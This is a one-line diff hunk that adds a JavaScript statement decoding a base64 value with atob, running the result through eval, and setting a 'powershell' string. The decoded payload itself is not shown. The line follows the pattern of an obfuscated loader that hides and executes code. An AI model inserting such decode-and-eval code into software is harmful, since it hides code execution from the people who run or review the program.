@@ -1,0 +1,1 @@
+var b = atob(x); eval(b); var p = "powershell";
